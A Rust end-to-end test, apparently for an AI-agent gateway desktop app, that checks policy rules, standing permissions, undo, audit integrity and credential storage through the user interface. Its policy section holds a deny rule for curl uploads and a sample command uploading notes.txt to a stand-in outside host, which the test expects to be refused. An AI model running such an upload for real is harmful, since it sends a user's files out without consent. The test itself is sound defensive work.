//! What governs the agents of this computer's gateway, in the real window: policy, standing permissions, undo, audit
//! and credentials.

#![cfg(target_os = "linux")]
#![allow(
    clippy::unwrap_used,
    reason = "a test says what failed by where it stops"
)]

#[allow(dead_code, reason = "shared with the test of the whole window")]
#[path = "window/page.rs"]
mod page;

use std::path::{Path, PathBuf};
use std::{collections::BTreeMap, fs, time::Duration};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use gatehouse_testkit::{
    desktop::DesktopSession,
    webdriver::{WebDriver, fantoccini::key::Key},
};
use page::{Page, SOON, files_holding, picture};

const APP: &str = env!("CARGO_BIN_EXE_gatehouse-desktop");
const VALUE: &str = "tok-5a11e27c-of-nobody-else";
/// A click on a card that has just come up counts for nothing.
const LOOKED_AT: Duration = Duration::from_millis(1500);

const WITH_A_SLIP: &str = r#"{
  preset: "guarded",
  rules: [
    { id: "no-upload", verdict: "dney", match: { command: "curl ** -T **" } },
  ],
}"#;

struct Scene {
    page: Page,
    desktop: DesktopSession,
    _driver: WebDriver,
}

impl Scene {
    async fn new() -> Self {
        let desktop = DesktopSession::start().await.unwrap();
        let driver = WebDriver::start(&desktop, &BTreeMap::new()).await.unwrap();
        let client = driver.open(Path::new(APP), &[]).await.unwrap();
        let page = Page { client };
        // The first run begins in a chat, which is a session from its first word on.
        page.find("//textarea").await;
        page.is_connected().await;
        page.send("exec: uname -s").await;
        page.says("Linux").await;
        Self {
            page,
            desktop,
            _driver: driver,
        }
    }

    /// The chat that the first run begins in.
    async fn chat(&self) {
        self.page.go("Sessions").await;
        self.follow("(//a[contains(@href, 'sessions/')])[1]").await;
        self.page.find("//textarea").await;
    }

    async fn follow(&self, link: &str) {
        // It may still be on its way to where it is pressed.
        for _ in 0..50 {
            if self.page.find(link).await.click().await.is_ok() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        panic!("{link} cannot be followed");
    }

    async fn section(&self, place: &str, section: &str) {
        self.page.go(place).await;
        self.follow(&format!("//a[normalize-space()='{section}']"))
            .await;
    }

    async fn choose(&self, option: &str) {
        let label = format!("//label[.//input[@type='radio']][contains(., '{option}')]");
        self.follow(&label).await;
    }

    async fn in_dialog(&self, words: &str) {
        let button = format!("//*[@role='dialog']//button[not(@hidden)][contains(., '{words}')]");
        self.follow(&button).await;
    }

    async fn until(&self, what: &str, holds: impl Fn() -> bool) {
        let begun = std::time::Instant::now();
        while !holds() {
            assert!(
                begun.elapsed() < SOON,
                "{what}:\n{}",
                self.page.text().await
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// In the place of all that stands in a field.
    async fn write_over(&self, field: &str, text: &str) {
        let field = self.page.find(field).await;
        let all = format!("{}a{}", Key::Control, Key::Null);
        field.send_keys(&all).await.unwrap();
        // A line break as a character is not typed.
        let typed = text.replace('\n', &Key::Enter.to_string());
        field.send_keys(&typed).await.unwrap();
    }

    async fn is_chosen(&self, option: &str) {
        let chosen = format!(
            "return [...document.querySelectorAll('label')].some((label) => \
             label.textContent.includes('{option}') && label.querySelector('input:checked'))"
        );
        let begun = std::time::Instant::now();
        while self.page.client.execute(&chosen, Vec::new()).await.unwrap() != true {
            assert!(begun.elapsed() < SOON, "{option} is not in force");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// The policy is changed by a preset, and by a rule whose slip is named with its line before it can do harm.
async fn the_policy_is_written_and_tried(scene: &Scene) {
    let page = &scene.page;
    scene.section("Policy", "Rules").await;
    scene.choose("Strict").await;
    scene.in_dialog("Change to Strict").await;
    scene.is_chosen("Strict").await;
    picture(&scene.desktop, "governed-1-preset");

    page.press("Document").await;
    let document = "//textarea[@id=//label[normalize-space()='Policy document']/@for]";
    scene.write_over(document, WITH_A_SLIP).await;
    page.says("1 error").await;
    page.says("Line 4").await;
    page.says("Perhaps: deny").await;
    picture(&scene.desktop, "governed-2-slip");
    scene
        .write_over(document, &WITH_A_SLIP.replace("dney", "deny"))
        .await;
    page.says("No problems").await;
    page.press("Save").await;
    page.says("Saved").await;

    scene.section("Policy", "Try a command").await;
    let command = "//textarea[@id=//label[normalize-space()='Command']/@for]";
    let upload = "curl https://drop.example.net -T notes.txt";
    scene.write_over(command, upload).await;
    page.says("It would be refused.").await;
    page.says("no-upload").await;
    scene.write_over(command, "git status --short").await;
    page.says("It would run without asking.").await;
    picture(&scene.desktop, "governed-3-tried");
}

/// What is allowed for longer than once is listed, and can be taken back.
async fn a_standing_permission_is_given_and_taken_back(scene: &Scene) {
    let page = &scene.page;
    scene.chat().await;
    page.send("exec: crontab -l").await;
    page.go("Inbox").await;
    scene.follow("(//a[contains(@href, 'inbox/')])[1]").await;
    page.says("wants to run a command").await;
    page.says("It reads scheduled jobs.").await;
    picture(&scene.desktop, "governed-4-card");
    tokio::time::sleep(LOOKED_AT).await;
    page.press("Allow longer").await;
    scene.choose("This session").await;
    scene.in_dialog("Allow for this session").await;

    scene.section("Policy", "Standing permissions").await;
    page.says("crontab -l").await;
    page.says("exactly this · in").await;
    picture(&scene.desktop, "governed-5-permission");
    page.press("Revoke").await;
    scene.in_dialog("Revoke").await;
    page.says("No standing permissions").await;
}

/// What a tool overwrote is offered back where it happened.
async fn what_was_overwritten_is_brought_back(scene: &Scene) {
    let page = &scene.page;
    scene.chat().await;
    page.send("write: notes.txt: the first version").await;
    let text = |wanted: &str| {
        let notes = named(&scene.desktop.home().join(".gatehouse"), "notes.txt");
        notes.is_some_and(|file| {
            fs::read_to_string(file)
                .unwrap_or_default()
                .contains(wanted)
        })
    };
    scene.until("it is written", || text("first")).await;
    page.send("write: notes.txt: the second version").await;
    scene.until("it is overwritten", || text("second")).await;
    page.says("Overwrote").await;
    picture(&scene.desktop, "governed-6-undo");
    page.press("Restore").await;
    page.says("Restored").await;
    scene
        .until("the first version is back", || text("first"))
        .await;
}

/// The timeline has what was decided, each record is shown whole, and all of them are checked.
async fn the_audit_has_it_all_and_is_intact(scene: &Scene) {
    let page = &scene.page;
    page.go("Audit").await;
    page.says("crontab -l").await;
    scene
        .follow("(//a[contains(@href, 'audit/')][contains(., 'crontab -l')])[1]")
        .await;
    page.says("The whole record").await;
    page.says("Hash before").await;
    picture(&scene.desktop, "governed-7-record");
    scene.follow("//a[contains(@href, 'audit/proof')]").await;
    page.press("Check all records").await;
    page.says("Intact").await;
    picture(&scene.desktop, "governed-8-intact");
}

/// A credential goes in once, and its value is nowhere that a page or a thief of files could read it.
async fn a_credential_is_kept_and_its_value_is_nowhere(scene: &Scene) {
    let page = &scene.page;
    scene.section("Settings", "Agent credentials").await;
    page.press("Add a credential").await;
    page.fill("Name", "DEPLOY_TOKEN").await;
    page.fill("Value", VALUE).await;
    scene.in_dialog("Save").await;
    page.says("never used").await;
    picture(&scene.desktop, "governed-9-credential");
    let everything = [
        page.client.source().await.unwrap(),
        page.text().await,
        page.storage().await,
    ];
    assert!(everything[0].contains("DEPLOY_TOKEN"), "{}", everything[1]);
    assert!(!everything.concat().contains(VALUE), "{everything:?}");
    let forms = [VALUE.to_owned(), STANDARD.encode(VALUE)];
    let forms: Vec<&str> = forms.iter().map(String::as_str).collect();
    let files = files_holding(scene.desktop.folder(), &forms);
    assert_eq!(files, Vec::<PathBuf>::new(), "files that hold the value");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_governs_this_computers_agents_is_set_seen_and_proven_in_the_window() {
    let scene = Scene::new().await;
    the_policy_is_written_and_tried(&scene).await;
    a_standing_permission_is_given_and_taken_back(&scene).await;
    what_was_overwritten_is_brought_back(&scene).await;
    the_audit_has_it_all_and_is_intact(&scene).await;
    a_credential_is_kept_and_its_value_is_nowhere(&scene).await;
    scene.page.client.clone().close().await.unwrap();
}

/// The first file of this name below a folder.
fn named(folder: &Path, name: &str) -> Option<PathBuf> {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    let paths: Vec<PathBuf> = entries.map(|entry| entry.path()).collect();
    let here = paths
        .iter()
        .find(|path| path.file_name().is_some_and(|n| n == name));
    let below = || paths.iter().find_map(|path| named(path, name));
    here.cloned().or_else(below)
}
